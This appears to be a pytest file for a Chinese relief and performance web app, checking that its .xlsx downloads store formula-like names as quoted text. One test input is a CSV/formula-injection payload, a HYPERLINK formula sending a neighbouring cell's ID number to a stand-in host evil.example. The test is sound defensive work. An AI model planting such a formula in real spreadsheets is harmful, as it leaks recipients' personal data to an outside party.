"""The files the pages hand out keep a user's text as text (issue 13 §5), end to end: a register name
`=HYPERLINK(...)` in the bank's 代发名单 downloaded by the relief officer, and a project renamed
`=1+1` in the plan's .xlsx and the monitoring table."""

import io
import zipfile
from datetime import date
from decimal import Decimal as D

from openpyxl import load_workbook

from jixiao.relief.synthetic import made_up_id
from jixiao.web.goals.models import Project
from jixiao.web.relief import services
from jixiao.web.relief.models import Standard

from .conftest import approve, login

LEAK = '=HYPERLINK("http://evil.example/?leak="&C2,"点击")'
HEADER = ["姓名", "身份证号", "电话", "工作单位", "家庭人口", "家庭年收入", "致困原因", "困难程度", "开户银行", "银行账号"]


def no_formula(data: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode()
    book = load_workbook(io.BytesIO(data))
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


def test_the_downloaded_bank_list_keeps_formula_like_names_as_text(client, users, plan):
    approve(plan, users)
    Standard.objects.create(unit=plan.unit, year=2021, kind="救助", amount=D(500))
    names = [LEAK, "=1+1", "+1", "-1+2", "@SUM(A1)"]
    rows = [HEADER] + [[name, made_up_id(k), "13800000000", "县纺织厂", "3", "20000", "因病", "相对困难", "农业银行",
                        "6228480000000000001"] for k, name in enumerate(names)]
    count, bad = services.register_import(unit=plan.unit, rows=rows, user=users["relief"])
    assert (count, bad) == (5, [])
    project = plan.projects.get(code="13032221GVUVTX63BWWCQ")
    spring = services.round_create(project=project, name="=1+1春节送温暖", kind="救助", start=date(2021, 1, 15),
                                   end=date(2021, 2, 10), degrees=[], user=users["relief"])
    services.round_approve(round_=spring, user=users["approver"])
    response = login(client, users["relief"]).get(f"/relief/rounds/{spring.pk}/bank.xlsx")
    assert response.status_code == 200
    cells = no_formula(response.content)
    written = {c.value: c for c in cells}
    for name in [*names, "=1+1春节送温暖"]:
        assert name in written and written[name].data_type == "s" and written[name].quotePrefix, name
    money = [c.value for c in cells if c.column == 6 and c.row > 1]
    assert money == [500] * 5 + [2500]


def test_the_plan_and_monitoring_downloads_keep_a_formula_like_project_name_as_text(client, users, plan):
    Project.objects.filter(plan=plan, code="13032221GVUVTX63BWWCQ").update(name="=1+1")
    login(client, users["editor"])
    for url in [f"/goals/{plan.pk}/download.xlsx", f"/evaluation/{plan.pk}/tables/monitoring.xlsx?as_of=2021-07-31",
                f"/evaluation/{plan.pk}/tables/self-evaluation.xlsx"]:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = no_formula(response.content)
        named = [c for c in cells if c.value == "=1+1"]
        assert named and all(c.data_type == "s" and c.quotePrefix for c in named), url
